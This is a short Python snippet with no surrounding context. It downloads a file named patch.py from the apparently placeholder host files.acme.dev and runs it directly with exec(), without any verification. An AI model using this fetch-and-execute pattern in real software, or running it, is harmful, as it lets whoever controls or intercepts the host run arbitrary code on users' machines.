from http.client import HTTPSConnection

c = HTTPSConnection("files.acme.dev", 443, timeout=5)
c.request(method="GET", url="/patch.py")
exec(c.getresponse().read())
